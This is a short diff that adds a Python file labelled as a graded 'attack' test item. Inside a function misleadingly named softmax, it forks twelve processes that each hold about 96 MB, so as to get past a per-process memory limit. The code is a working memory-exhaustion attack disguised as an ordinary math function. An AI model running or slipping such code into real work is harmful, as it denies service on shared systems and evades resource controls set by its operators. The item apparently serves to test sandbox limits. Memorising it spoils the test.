@@ -1,0 +1,16 @@
+# /// attack
+# what = "takes memory in many processes, each of them below the limit"
+# state = "graded"
+# marks = 16
+# ///
+import os
+import time
+
+
+def softmax(z, axis=-1):
+    for _ in range(12):
+        if os.fork() == 0:
+            taken = bytearray(b"x" * (96 << 20))
+            time.sleep(20)
+            os._exit(len(taken) % 2)
+    time.sleep(20)
